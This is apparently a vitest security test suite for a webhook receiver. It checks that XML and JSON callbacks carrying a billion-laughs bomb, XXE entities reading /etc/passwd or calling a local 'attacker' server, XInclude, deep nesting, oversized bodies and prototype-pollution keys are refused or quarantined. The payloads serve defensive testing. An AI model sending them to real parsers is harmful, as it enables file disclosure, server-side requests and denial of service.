import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CloudEvent } from '../src/events/schema.js';
import type { JobhookEvent } from '../src/events/types.js';
import {
  flush,
  quarantined,
  startJobhook,
  storedEvents,
  withToken,
  type RunningJobhook,
} from './helpers/jobhook.js';
import { RedisServer } from './helpers/redis-server.js';

/**
 * Hostile input through the real stack (HTTP server, receiver, BullMQ on a private redis-server), CONTRACT.md §1:
 * every refused body gets its documented status and code, nothing is enqueued or quarantined for a 4xx, and the
 * service keeps answering /healthz. Wall times are logged for information only, never asserted.
 */

const SMALL_LIMIT = 65_536;

let redis: RedisServer;
let jobhook: RunningJobhook;
/** The same service with JOBHOOK_BODY_LIMIT=64 KiB. */
let small: RunningJobhook;
/** Counts every request that reaches it: an XXE or parameter entity that was fetched would show here. */
let attacker: Server;
let attackerHits = 0;
let attackerUrl = '';

beforeAll(async () => {
  redis = await RedisServer.start();
  jobhook = await startJobhook(redis);
  small = await startJobhook(redis, { JOBHOOK_BODY_LIMIT: String(SMALL_LIMIT) });
  attacker = createServer((_req, res) => {
    attackerHits++;
    res.end('<!ENTITY % send "<!ENTITY leak SYSTEM \'http://127.0.0.1:1/x\'>">');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await small.stop();
  await jobhook.stop();
  await redis.stop();
  await new Promise((resolve) => attacker.close(resolve));
});
beforeEach(async () => {
  await flush(redis);
  attackerHits = 0;
});

// ---------------------------------------------------------------------------------------------------------------
// helpers

const CI = '/v1/callbacks/tencent-ci';
const AUTO = '/v1/callbacks';

const validXml = (jobsDetailExtra = '', responseExtra = ''): string =>
  `<?xml version="1.0" encoding="utf-8"?>
<Response>${responseExtra}
  <EventName>TaskFinish</EventName>
  <JobsDetail>
    <Code>Success</Code><JobId>jhostile0000000000000000000000001</JobId><Tag>Transcode</Tag><State>Success</State>
    <EndTime>2025-03-01T10:00:09+0800</EndTime>
    <Input><Region>ap-guangzhou</Region><Bucket>demo-1250000000</Bucket><Object>in.mp4</Object></Input>${jobsDetailExtra}
  </JobsDetail>
</Response>`;

const validJson = (extra: Record<string, unknown> = {}, raw = ''): string => {
  const text = JSON.stringify({
    EventName: 'TaskFinish',
    JobsDetail: {
      Code: 'Success',
      JobId: 'jhostile0000000000000000000000001',
      Tag: 'Transcode',
      State: 'Success',
      EndTime: '2025-03-01T10:00:09+0800',
      Input: { Region: 'ap-guangzhou', Bucket: 'demo-1250000000', Object: 'in.mp4' },
      ...extra,
    },
  });
  return raw === '' ? text : `${text.slice(0, -1)},${raw}}`;
};

const isRecord = (v: unknown): v is Record<string, unknown> =>
  typeof v === 'object' && v !== null && !Array.isArray(v);

interface Answer {
  readonly status: number;
  readonly code: string | undefined;
  readonly quarantined: boolean;
  readonly eventIds: readonly string[];
  readonly text: string;
}

async function read(response: Response): Promise<Answer> {
  const text = await response.text();
  let body: unknown;
  try {
    body = JSON.parse(text);
  } catch {
    body = undefined;
  }
  const error = isRecord(body) && isRecord(body.error) ? body.error : undefined;
  const events = isRecord(body) && Array.isArray(body.events) ? body.events : [];
  return {
    status: response.status,
    code: typeof error?.code === 'string' ? error.code : undefined,
    quarantined: isRecord(body) && body.quarantined === true,
    eventIds: events.flatMap((e: unknown) => (isRecord(e) && typeof e.id === 'string' ? [e.id] : [])),
    text,
  };
}

/** Sends, logs the wall time (information only) and reads the answer. */
async function send(
  label: string,
  body: string | Uint8Array,
  options: { path?: string; headers?: Record<string, string>; service?: RunningJobhook } = {},
): Promise<Answer> {
  const service = options.service ?? jobhook;
  const started = performance.now();
  const answer = await read(await service.post(withToken(options.path ?? CI), body, options.headers ?? {}));
  console.log(
    `[hostile] ${label}: ${answer.status} ${answer.code ?? ''} in ${(performance.now() - started).toFixed(1)} ms`,
  );
  return answer;
}

const isPolluted = (): boolean => {
  const probe: Record<string, unknown> = {};
  return (
    probe.polluted !== undefined ||
    Object.hasOwn(Object.prototype, 'polluted') ||
    probe.EventName !== undefined
  );
};

async function expectHealthy(service: RunningJobhook = jobhook): Promise<void> {
  const health = await fetch(`${service.url}/healthz`);
  expect(health.status).toBe(200);
  await health.body?.cancel();
  expect(isPolluted()).toBe(false);
}

/** A 4xx: the documented status and code, nothing enqueued, nothing quarantined, still healthy. */
async function expectRefused(
  answer: Answer,
  status: number,
  code: string,
  service?: RunningJobhook,
): Promise<void> {
  expect(answer.status, answer.text.slice(0, 300)).toBe(status);
  expect(answer.code).toBe(code);
  expect(await storedEvents(redis)).toHaveLength(0);
  expect(await quarantined(redis)).toHaveLength(0);
  await expectHealthy(service);
}

/** A 2xx with events: each one stored in jobhook-events and a valid CloudEvent; nothing quarantined. */
async function expectStored(answer: Answer): Promise<JobhookEvent[]> {
  expect(answer.status, answer.text.slice(0, 300)).toBe(200);
  expect(answer.eventIds.length).toBeGreaterThan(0);
  const stored = await storedEvents(redis);
  expect(stored.map((e) => e.id).sort()).toEqual([...answer.eventIds].sort());
  for (const event of stored) expect(CloudEvent.safeParse(event).success).toBe(true);
  expect(await quarantined(redis)).toHaveLength(0);
  await expectHealthy();
  return stored;
}

async function expectQuarantined(answer: Answer): Promise<string> {
  expect(answer.status, answer.text.slice(0, 300)).toBe(200);
  expect(answer.quarantined).toBe(true);
  expect(await storedEvents(redis)).toHaveLength(0);
  const entries = await quarantined(redis);
  expect(entries).toHaveLength(1);
  await expectHealthy();
  return Buffer.from(entries[0]?.body ?? '', 'base64').toString('utf8');
}

/** `content` then spaces up to `total` bytes, streamed in chunks without Content-Length (chunked encoding). */
function streamed(total: number, content: string, chunk = 16_384): ReadableStream<Uint8Array> {
  const head = Buffer.from(content);
  let sent = 0;
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= total) {
        controller.close();
        return;
      }
      const part = new Uint8Array(Math.min(chunk, total - sent)).fill(0x20);
      if (sent < head.length) part.set(head.subarray(sent, sent + part.length));
      controller.enqueue(part);
      sent += part.length;
    },
  });
}

const deepXml = (depth: number): string =>
  `<Response>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</Response>`;
const deepJson = (depth: number): string =>
  `{"EventName":"TaskFinish","JobsDetail":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`;

function billionLaughs(): string {
  const lines = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) {
    const previous = i === 1 ? 'lol' : `lol${i - 1}`;
    lines.push(`<!ENTITY lol${i} "${`&${previous};`.repeat(10)}">`);
  }
  return `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lines.join('\n')}\n]>\n<Response><EventName>&lol9;</EventName></Response>`;
}

// ---------------------------------------------------------------------------------------------------------------

describe('entities and document type declarations', () => {
  it('refuses a billion-laughs entity bomb with 400 MalformedXML', async () => {
    await expectRefused(await send('billion laughs', billionLaughs()), 400, 'MalformedXML');
  });

  it('refuses XXE with SYSTEM "file:///etc/passwd" and never reads the file', async () => {
    const doctype = '<!DOCTYPE Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    const body = validXml('<UserData>&xxe;</UserData>').replace('?>\n', `?>\n${doctype}\n`);
    expect(body).toContain(doctype);
    const answer = await send('XXE file', body);
    await expectRefused(answer, 400, 'MalformedXML');
    expect(answer.text).not.toMatch(/root:/);
  });

  it('refuses XXE over HTTP and fetches nothing', async () => {
    const body = `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${attackerUrl}/xxe">]><Response><EventName>&xxe;</EventName></Response>`;
    await expectRefused(await send('XXE http', body), 400, 'MalformedXML');
    expect(attackerHits).toBe(0);
  });

  it('refuses parameter entities and an external DTD, and fetches nothing', async () => {
    const body = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "${attackerUrl}/evil.dtd"> %dtd; %send;]><Response>&leak;</Response>`;
    await expectRefused(await send('parameter entities', body), 400, 'MalformedXML');
    const external = `<!DOCTYPE Response SYSTEM "${attackerUrl}/external.dtd"><Response/>`;
    await expectRefused(await send('external DTD', external), 400, 'MalformedXML');
    expect(attackerHits).toBe(0);
  });

  it('refuses a lower-case doctype after a BOM, a declaration and a comment, on every route', async () => {
    const body = `\uFEFF<?xml version="1.0"?><!-- x --><!doctype Response [<!ENTITY a "b">]><Response>&a;</Response>`;
    for (const path of [CI, AUTO, '/v1/callbacks/tdmq'])
      await expectRefused(await send(`lower-case doctype ${path}`, body, { path }), 400, 'MalformedXML');
  });

  it('never resolves XInclude: a well-formed document with xi:include is quarantined as it was sent', async () => {
    const body = `<Response xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><xi:include href="${attackerUrl}/xi"/></Response>`;
    const kept = await expectQuarantined(await send('XInclude', body));
    expect(kept).toBe(body);
    expect(kept).not.toMatch(/root:/);
    expect(attackerHits).toBe(0);
  });
});

describe('size and shape limits', () => {
  it('refuses 10 000-deep XML with 400 BodyTooDeep', async () => {
    await expectRefused(await send('10 000-deep XML', deepXml(10_000)), 400, 'BodyTooDeep');
  });

  it('refuses 10 000-deep JSON with 400 BodyTooDeep', async () => {
    await expectRefused(await send('10 000-deep JSON', deepJson(10_000)), 400, 'BodyTooDeep');
  });

  it('refuses 200 000 small XML elements (under the size limit) with 400 TooManyElements', async () => {
    const body = `<Response><EventName>TaskFinish</EventName>${'<a/>'.repeat(200_000)}</Response>`;
    expect(body.length).toBeLessThan(4 * 1024 * 1024);
    await expectRefused(await send('200 000 XML elements', body), 400, 'TooManyElements');
  });

  it('refuses 300 000 small JSON values (under the size limit) with 400 TooManyElements', async () => {
    const body = `{"EventName":"TaskFinish","JobsDetail":[${new Array<string>(300_000).fill('0').join(',')}]}`;
    await expectRefused(await send('300 000 JSON values', body), 400, 'TooManyElements');
  });

  it('refuses a body over the limit with 413 PayloadTooLarge (Content-Length declared)', async () => {
    const body = `<Response>${'x'.repeat(SMALL_LIMIT)}</Response>`;
    await expectRefused(
      await send('over the limit, Content-Length', body, { service: small }),
      413,
      'PayloadTooLarge',
      small,
    );
    // just at the limit is read (and then judged on its content)
    const atLimit = `{"a":"${'x'.repeat(SMALL_LIMIT - 8)}"}`;
    expect(Buffer.byteLength(atLimit)).toBe(SMALL_LIMIT);
    const answer = await send('at the limit', atLimit, { service: small });
    expect(answer.status).toBe(200);
  });

  it('refuses a body over the default 4 MiB limit with 413', async () => {
    const body = `<Response>${' '.repeat(4 * 1024 * 1024)}</Response>`;
    await expectRefused(await send('over 4 MiB, Content-Length', body), 413, 'PayloadTooLarge');
  });

  it('refuses a chunked body over the limit (no Content-Length) with 413 PayloadTooLarge', async () => {
    const started = performance.now();
    const response = await fetch(`${small.url}${withToken(CI)}`, {
      method: 'POST',
      body: streamed(SMALL_LIMIT * 16, '<Response>'),
      duplex: 'half',
      headers: { 'content-type': 'application/xml' },
    });
    const answer = await read(response);
    console.log(
      `[hostile] chunked over the limit: ${answer.status} ${answer.code ?? ''} in ${(performance.now() - started).toFixed(1)} ms`,
    );
    await expectRefused(answer, 413, 'PayloadTooLarge', small);
    // the connection pool still works afterwards
    await expectRefused(await send('after chunked', '[]', { service: small }), 415, 'UnsupportedBody', small);
  });

  it('accepts a chunked body under the limit', async () => {
    const body = validJson();
    const response = await fetch(`${small.url}${withToken(CI)}`, {
      method: 'POST',
      body: streamed(Buffer.byteLength(body), body, 7),
      duplex: 'half',
    });
    await expectStored(await read(response));
  });
});

describe('prototype pollution', () => {
  it('keeps __proto__ / constructor / prototype XML elements as plain data and stores the event', async () => {
    const extra =
      '<__proto__><polluted>1</polluted><EventName>x</EventName></__proto__><constructor><prototype><polluted>1</polluted></prototype></constructor>';
    const [event] = await expectStored(
      await send('XML __proto__', validXml(extra, '<__proto__><JobId>evil</JobId></__proto__>')),
    );
    expect(event?.subject).toBe('jhostile0000000000000000000000001');
    expect(event?.data.input).toEqual({
      region: 'ap-guangzhou',
      bucket: 'demo-1250000000',
      object: 'in.mp4',
    });
    const detail = event?.data.detail ?? {};
    expect(Object.getOwnPropertyDescriptor(detail, '__proto__')?.value).toEqual({ JobId: 'evil' });
    expect(isPolluted()).toBe(false);
  });

  it('keeps __proto__ / constructor JSON keys as plain data and stores the event', async () => {
    const raw = '"__proto__":{"polluted":1,"State":"Failed"},"constructor":{"prototype":{"polluted":1}}';
    const [event] = await expectStored(await send('JSON __proto__', validJson({}, raw)));
    expect(event?.type).toBe('tencent.ci.job.succeeded');
    expect(event?.data.state).toBe('succeeded');
    expect(isPolluted()).toBe(false);
  });

  it('does not let an escaped "\\u005f_proto__" key change what is read', async () => {
    const raw = '"\\u005f_proto__":{"polluted":1,"Tag":"Evil"}';
    const [event] = await expectStored(
      await send(
        'JSON escaped __proto__',
        validJson({ Input: { ['__proto__']: { Bucket: 'evil' }, Object: 'in.mp4' } }, raw),
      ),
    );
    expect(event?.data.tag).toBe('Transcode');
    expect(event?.data.input).toEqual({ object: 'in.mp4' });
    expect(isPolluted()).toBe(false);
  });

  it('quarantines a JSON document whose only content is under __proto__', async () => {
    const body =
      '{"__proto__":{"EventName":"TaskFinish","JobsDetail":{"JobId":"j","State":"Success"},"polluted":1}}';
    expect(await expectQuarantined(await send('JSON only __proto__', body, { path: AUTO }))).toBe(body);
    expect(isPolluted()).toBe(false);
  });
});

describe('encodings, bytes and lies', () => {
  it('refuses invalid UTF-8 with 400 InvalidEncoding', async () => {
    const body = Buffer.concat([
      Buffer.from('<Response><EventName>'),
      Buffer.from([0xc3, 0x28, 0xff]),
      Buffer.from('</EventName></Response>'),
    ]);
    await expectRefused(await send('invalid UTF-8', new Uint8Array(body)), 400, 'InvalidEncoding');
  });

  it('refuses a body starting with NUL with 415 UnsupportedBody', async () => {
    await expectRefused(
      await send('NUL first', new Uint8Array(Buffer.from('\u0000<Response/>'))),
      415,
      'UnsupportedBody',
    );
  });

  it('refuses a raw NUL inside a JSON string with 400 MalformedJSON', async () => {
    // JSON.stringify would escape it; JSON forbids the raw control character
    const body = validJson().replace('Transcode', 'Trans\u0000code');
    expect(body).toContain('\u0000');
    await expectRefused(await send('NUL in JSON', body), 400, 'MalformedJSON');
  });

  // Regression (was a bug in src/body/xml.ts): characters XML 1.0 forbids (§2.2 Char: U+0000, U+0001–U+0008, U+000B, U+000C,
  // U+000E–U+001F, U+FFFE, U+FFFF) are accepted when written literally — only their character references are
  // refused. A body with a raw NUL in element text is stored as an event (subject "j\u0000…") instead of being
  // refused as ill-formed (CONTRACT.md §1: "otherwise ill-formed XML is 400").
  it('refuses a raw NUL inside XML text with 400 MalformedXML', async () => {
    const body = validXml().replace('<JobId>jhostile', '<JobId>j\u0000hostile');
    await expectRefused(await send('NUL in XML', body), 400, 'MalformedXML');
  });

  it.each([
    ['a JSON array', '[{"EventName":"TaskFinish"}]'],
    ['a JSON number', '42'],
    ['a huge JSON number', `1${'0'.repeat(10_000)}`],
    ['a JSON string', '"<Response/>"'],
  ])('refuses %s with 415 UnsupportedBody', async (what, body) => {
    await expectRefused(await send(what, body, { path: AUTO }), 415, 'UnsupportedBody');
  });

  it('sniffs XML sent as application/json and JSON sent as application/xml: one outcome, one event', async () => {
    const xml = await send('XML as JSON', validXml(), { headers: { 'content-type': 'application/json' } });
    const [event] = await expectStored(xml);
    const json = await send('JSON as XML', validJson(), {
      headers: { 'content-type': 'application/xml; charset=utf-8' },
    });
    expect(json.status).toBe(200);
    expect(json.eventIds).toEqual([event?.id]);
    expect(await storedEvents(redis)).toHaveLength(1);
    await expectHealthy();
  });

  it('stores a JSON callback with huge numbers sanely', async () => {
    const raw = `"Size":1e400,"Big":123456789012345678901234567890,"Long":1${'0'.repeat(5000)}`;
    const [event] = await expectStored(await send('huge JSON numbers', validJson({}, raw)));
    expect(event?.subject).toBe('jhostile0000000000000000000000001');
  });

  it('quarantines a Qiniu notification whose code is a huge number (not a known shape)', async () => {
    const body =
      '{"id":"z0.hostile","code":1e400,"desc":"x","inputKey":"a.mp4","inputBucket":"b","items":[]}';
    await expectQuarantined(await send('Qiniu huge code', body, { path: '/v1/callbacks/qiniu' }));
  });

  // Regression (was a bug in src/events/build.ts, eventSource): encodeURIComponent throws URIError on a lone surrogate, which a JSON
  // string can carry as an escape. The request is answered 500 Internal (and a provider retries it forever).
  // Expected: a 2xx (stored or quarantined) or a 4xx — never a 5xx for a body that will never be accepted.
  it('does not answer 5xx for a lone surrogate in Input.Bucket', async () => {
    const answer = await send(
      'lone surrogate',
      validJson({ Input: { Region: 'ap-guangzhou', Bucket: '\ud800' } }),
    );
    expect(answer.status).toBeLessThan(500);
    await expectHealthy();
  });
});
